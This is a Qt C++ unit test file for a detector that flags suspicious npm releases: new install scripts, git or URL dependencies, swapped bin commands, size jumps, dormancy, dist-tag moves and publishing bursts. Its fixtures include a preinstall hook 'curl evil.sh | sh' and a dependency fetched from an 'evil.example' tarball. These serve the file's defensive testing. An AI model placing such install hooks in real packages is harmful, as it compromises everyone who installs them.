// SPDX-License-Identifier: GPL-3.0-or-later
// The signal catalogue of publish-watch.md §4 on manifests, dist-tag moves and bursts.
#include "core/watch/BurstDetector.h"
#include "core/watch/ReleaseSignals.h"

#include <QCryptographicHash>
#include <QJsonDocument>
#include <QTest>

using namespace Qt::Literals::StringLiterals;
using namespace td::watch;

Q_DECLARE_METATYPE(ReleaseSignal::Weight)

namespace {

QJsonObject json(const char *text)
{
    return QJsonDocument::fromJson(QByteArray(text)).object();
}

const char *kPrevious = R"({"name":"@acme/ui","version":"1.1.0",
    "scripts":{"test":"jest","prepare":"tsc"},
    "dependencies":{"react":"^18.2.0"},
    "optionalDependencies":{"fsevents":"^2.3.0"},
    "bin":{"acme":"cli.js"},
    "dist":{"unpackedSize":40000,"fileCount":12}})";

QString codesAndTexts(const QList<ReleaseSignal> &signalList)
{
    QStringList out;
    for (const ReleaseSignal &s : signalList)
        out.append(s.code + u": "_s + s.text);
    return out.join(u'\n');
}

} // namespace

class TestWatchSignals : public QObject
{
    Q_OBJECT
private slots:
    void manifest_data();
    void manifest();
    void previousVersionStaysInItsMajor();
    void dormancy();
    void stagedTarball();
    void tagMoves_data();
    void tagMoves();
    void versionOrder();
    void burst_data();
    void burst();
};

void TestWatchSignals::manifest_data()
{
    QTest::addColumn<QByteArray>("changes"); // merged into the previous manifest
    QTest::addColumn<QString>("code");       // empty: no signal
    QTest::addColumn<ReleaseSignal::Weight>("weight");
    QTest::addColumn<QString>("evidence");
    using W = ReleaseSignal::Weight;

    QTest::newRow("nothing that matters")
        << QByteArray(R"({"description":"new words"})") << QString() << W::Notable << QString();
    QTest::newRow("a new postinstall")
        << QByteArray(R"({"scripts":{"test":"jest","prepare":"tsc","postinstall":"node x.js"}})")
        << u"install-script"_s << W::Alarm << u"Adds a postinstall script: \"node x.js\""_s;
    QTest::newRow("a changed preinstall")
        << QByteArray(R"({"scripts":{"preinstall":"curl evil.sh | sh"}})") << u"install-script"_s
        << W::Alarm << u"preinstall script: \"curl evil.sh | sh\""_s;
    QTest::newRow("a changed prepare")
        << QByteArray(R"({"scripts":{"test":"jest","prepare":"node p.js"}})") << u"install-script"_s
        << W::Notable << u"prepare script from \"tsc\""_s;
    QTest::newRow("binding.gyp") << QByteArray(R"({"gypfile":true})") << u"native-build"_s
                                 << W::Alarm << u"binding.gyp"_s;
    QTest::newRow("a git dependency")
        << QByteArray(
               R"({"dependencies":{"react":"^18.2.0","pcj":"git+https://github.com/e/p.git"}})")
        << u"git-dependency"_s << W::Alarm << u"pcj from git+https://github.com/e/p.git"_s;
    QTest::newRow("a URL dependency")
        << QByteArray(R"({"dependencies":{"react":"https://evil.example/react.tgz"}})")
        << u"git-dependency"_s << W::Alarm << u"react from https://evil.example/react.tgz"_s;
    QTest::newRow("a GitHub shorthand dependency")
        << QByteArray(R"({"dependencies":{"react":"evil/react#main"}})") << u"git-dependency"_s
        << W::Alarm << u"evil/react#main"_s;
    QTest::newRow("a git optional dependency")
        << QByteArray(R"({"optionalDependencies":{"fsevents":"^2.3.0","tslib":"github:x/tslib"}})")
        << u"git-dependency"_s << W::Alarm << u"tslib from github:x/tslib"_s;
    QTest::newRow("a registry range is no signal")
        << QByteArray(R"({"dependencies":{"react":"^18.3.0","@scope/x":"npm:y@1"}})") << QString()
        << W::Notable << QString();
    QTest::newRow("a new optional dependency")
        << QByteArray(R"({"optionalDependencies":{"fsevents":"^2.3.0","sharp":"^0.33.0"}})")
        << u"optional-dependency"_s << W::Notable << u"optional dependency sharp (^0.33.0)"_s;
    QTest::newRow("a changed command") << QByteArray(R"({"bin":{"acme":"payload.js"}})") << u"bin"_s
                                       << W::Notable << u"acme at payload.js instead of cli.js"_s;
    QTest::newRow("a size jump") << QByteArray(
        R"({"dist":{"unpackedSize":2400000,"fileCount":13}})")
                                 << u"size-jump"_s << W::Notable << u"in 1.1.0 to"_s;
    QTest::newRow("a small size change is no signal")
        << QByteArray(R"({"dist":{"unpackedSize":90000,"fileCount":12}})") << QString()
        << W::Notable << QString();
    QTest::newRow("a file-count jump")
        << QByteArray(R"({"dist":{"unpackedSize":40000,"fileCount":120}})") << u"file-count-jump"_s
        << W::Notable << u"from 12 in 1.1.0 to 120"_s;
}

void TestWatchSignals::manifest()
{
    QFETCH(QByteArray, changes);
    QFETCH(QString, code);
    QFETCH(ReleaseSignal::Weight, weight);
    QFETCH(QString, evidence);
    const QJsonObject previous = json(kPrevious);
    QJsonObject manifest = previous;
    const QJsonObject delta = QJsonDocument::fromJson(changes).object();
    for (auto it = delta.begin(); it != delta.end(); ++it)
        manifest.insert(it.key(), it.value());
    manifest.insert(u"version"_s, u"1.1.1"_s);

    const QList<ReleaseSignal> found = compareManifestSignals(manifest, previous);
    if (code.isEmpty()) {
        QVERIFY2(found.isEmpty(), qPrintable(codesAndTexts(found)));
        return;
    }
    QCOMPARE(found.size(), 1);
    QCOMPARE(found.first().code, code);
    QCOMPARE(found.first().weight, weight);
    QVERIFY2(found.first().text.contains(evidence), qPrintable(found.first().text));
    // A first release has nothing to be compared with.
    QVERIFY(compareManifestSignals(manifest, {}).isEmpty());
}

void TestWatchSignals::previousVersionStaysInItsMajor()
{
    // 1.4.1 after 2.0.0: compared with 1.4.0, not with the newer major's manifest.
    const QJsonObject packument = json(R"({"name":"p","versions":{
        "1.4.0":{"version":"1.4.0","scripts":{"postinstall":"node old.js"}},
        "2.0.0":{"version":"2.0.0"},
        "1.4.1":{"version":"1.4.1","scripts":{"postinstall":"node old.js"}}},
        "time":{"1.4.0":"2026-01-01T00:00:00.000Z","2.0.0":"2026-02-01T00:00:00.000Z",
                "1.4.1":"2026-03-01T00:00:00.000Z"}})");
    QCOMPARE(previousVersionOf(packument, u"1.4.1"_s), u"1.4.0"_s);
    QCOMPARE(previousVersionOf(packument, u"2.0.0"_s), u"1.4.0"_s);
    QCOMPARE(previousVersionOf(packument, u"1.4.0"_s), QString());
    QVERIFY(releaseSignals(packument, u"1.4.1"_s).isEmpty());
}

void TestWatchSignals::dormancy()
{
    const QJsonObject packument = json(R"({"name":"p","versions":{
        "0.9.0":{"version":"0.9.0"},"1.0.0":{"version":"1.0.0"},"1.0.1":{"version":"1.0.1"}},
        "time":{"0.9.0":"2015-05-01T00:00:00.000Z","1.0.0":"2017-03-01T00:00:00.000Z",
                "1.0.1":"2017-06-01T00:00:00.000Z"}})");
    const QList<ReleaseSignal> dormant = releaseSignals(packument, u"1.0.0"_s);
    QCOMPARE(dormant.size(), 1);
    QCOMPARE(dormant.first().code, u"dormancy"_s);
    QVERIFY2(dormant.first().text.contains(u"the one before, 0.9.0, was published on 2015-05-01"_s),
             qPrintable(dormant.first().text));
    QVERIFY(releaseSignals(packument, u"1.0.1"_s).isEmpty()); // three months
    SignalThresholds shorter;
    shorter.dormantDays = 60;
    QCOMPARE(releaseSignals(packument, u"1.0.1"_s, shorter).size(), 1);
}

void TestWatchSignals::stagedTarball()
{
    // A staged version as the Staged releases tab sees it: stage's ReleaseDiff of two tarballs.
    const auto file = [](const char *path, const QByteArray &content) {
        td::TarballFile f;
        f.path = QString::fromLatin1(path);
        f.size = content.size();
        f.text = true;
        f.kept = true;
        f.content = content;
        f.sha1 = QCryptographicHash::hash(content, QCryptographicHash::Sha1).toHex();
        return f;
    };
    td::TarballContents before;
    before.files = {file("index.js", "module.exports = 1;\n"),
                    file("package.json", R"({"name":"@acme/ui","version":"1.1.0"})")};
    td::TarballContents staged;
    staged.files = {file("binding.gyp", "{}"), file("index.js", "module.exports = 1;\n"),
                    file("package.json", R"({"name":"@acme/ui","version":"1.2.0",
                         "scripts":{"preinstall":"node hook.js"}})")};
    for (td::TarballContents *c : {&before, &staged})
        for (const td::TarballFile &f : std::as_const(c->files))
            c->unpackedSize += f.size;
    const td::ReleaseDiff diff
        = td::ReleaseDiff::compare(&before, staged, u"@acme/ui"_s, u"1.1.0"_s, u"1.2.0"_s);
    const QList<ReleaseSignal> found = releaseDiffSignals(diff);
    QStringList codes;
    for (const ReleaseSignal &s : found)
        codes.append(s.code);
    QCOMPARE(codes, (QStringList{u"install-script"_s, u"native-build"_s}));
    QVERIFY(
        found[0].text.contains(u"Adds a preinstall script: \"node hook.js\" (1.1.0 had none)"_s));
    QCOMPARE(found[1].weight, ReleaseSignal::Weight::Alarm);
    // The first version of a package has nothing to be compared with.
    QVERIFY(
        releaseDiffSignals(td::ReleaseDiff::compare(nullptr, staged, u"@acme/ui"_s, {}, u"1.2.0"_s))
            .isEmpty());
}

void TestWatchSignals::tagMoves_data()
{
    QTest::addColumn<QString>("from");
    QTest::addColumn<QString>("to");
    QTest::addColumn<QString>("code"); // empty: nothing
    QTest::addColumn<QString>("evidence");
    QTest::newRow("forward in the major") << u"1.1.0"_s << u"1.1.1"_s << QString() << QString();
    QTest::newRow("a new tag") << QString() << u"2.0.0-beta.1"_s << QString() << QString();
    QTest::newRow("back in the major") << u"2.4.1"_s << u"2.3.0"_s << u"tag-backwards"_s
                                       << u"back from 2.4.1 to the older 2.3.0"_s;
    QTest::newRow("to an older major")
        << u"9.1.0"_s << u"1.0.0"_s << u"tag-older-major"_s << u"from 9.1.0 back to 1.0.0"_s;
    QTest::newRow("to a newer major")
        << u"1.9.0"_s << u"2.0.0"_s << u"tag-other-major"_s << u"another major version, 2.0.0"_s;
    QTest::newRow("removed") << u"1.9.0"_s << QString() << u"tag-removed"_s
                             << u"pointed at 1.9.0"_s;
    QTest::newRow("release after its prerelease")
        << u"2.0.0-rc.2"_s << u"2.0.0"_s << QString() << QString();
    QTest::newRow("back to a prerelease")
        << u"2.0.0"_s << u"2.0.0-rc.10"_s << u"tag-backwards"_s << u"2.0.0-rc.10"_s;
}

void TestWatchSignals::tagMoves()
{
    QFETCH(QString, from);
    QFETCH(QString, to);
    QFETCH(QString, code);
    QFETCH(QString, evidence);
    WatchEvent event;
    event.kind = WatchEvent::Kind::TagMoved;
    event.tag = u"latest"_s;
    event.fromVersion = from;
    event.version = to;
    const QList<ReleaseSignal> found = tagMoveSignals(event);
    if (code.isEmpty()) {
        QVERIFY2(found.isEmpty(), qPrintable(codesAndTexts(found)));
        return;
    }
    QCOMPARE(found.size(), 1);
    QCOMPARE(found.first().code, code);
    QVERIFY2(found.first().text.contains(evidence), qPrintable(found.first().text));
}

void TestWatchSignals::versionOrder()
{
    QCOMPARE(compareVersions(u"1.10.0"_s, u"1.9.9"_s), 1);
    QCOMPARE(compareVersions(u"2.0.0-rc.2"_s, u"2.0.0-rc.10"_s), -1);
    QCOMPARE(compareVersions(u"2.0.0-alpha"_s, u"2.0.0-1"_s), 1);
    QCOMPARE(compareVersions(u"1.0.0+build.5"_s, u"1.0.0"_s), 0);
    QCOMPARE(compareVersions(u"garbage"_s, u"1.0.0"_s), 0);
    QCOMPARE(majorOf(u"12.3.4"_s), 12);
    QCOMPARE(majorOf(u"x"_s), -1);
}

void TestWatchSignals::burst_data()
{
    QTest::addColumn<QList<int>>("seconds"); // publish times of packages p0, p1, … (in order)
    QTest::addColumn<int>("burstSize");      // at the last record; 0: none
    QTest::newRow("five packages in three minutes") << QList<int>{0, 40, 90, 130, 170} << 5;
    QTest::newRow("four packages") << QList<int>{0, 40, 90, 130} << 0;
    QTest::newRow("five over four minutes") << QList<int>{0, 60, 120, 180, 240} << 0;
    QTest::newRow("seen out of order") << QList<int>{170, 0, 130, 40, 90} << 5;
    QTest::newRow("seven, the last in the window") << QList<int>{0, 10, 20, 30, 40, 50, 60} << 7;
}

void TestWatchSignals::burst()
{
    QFETCH(QList<int>, seconds);
    QFETCH(int, burstSize);
    const QDateTime start(QDate(2026, 5, 11), QTime(19, 20), Qt::UTC);
    BurstDetector detector;
    std::optional<BurstDetector::Burst> last;
    // Another account's publishes in the same minutes never count.
    for (int i = 0; i < 4; ++i)
        QVERIFY(!detector.record(u"bob"_s, u"q%1"_s.arg(i), start.addSecs(i)));
    for (int i = 0; i < seconds.size(); ++i)
        last = detector.record(u"alice"_s, u"p%1"_s.arg(i), start.addSecs(seconds[i]));
    QCOMPARE(last ? int(last->packages.size()) : 0, burstSize);
    if (last) {
        QCOMPARE(last->first, start);
        QCOMPARE(last->windowSeconds, 180);
    }
    // The same package again is not another package.
    BurstDetector same;
    for (int s : std::as_const(seconds))
        QVERIFY(!same.record(u"alice"_s, u"p"_s, start.addSecs(s)));
}

QTEST_GUILESS_MAIN(TestWatchSignals)
#include "tst_watchsignals.moc"
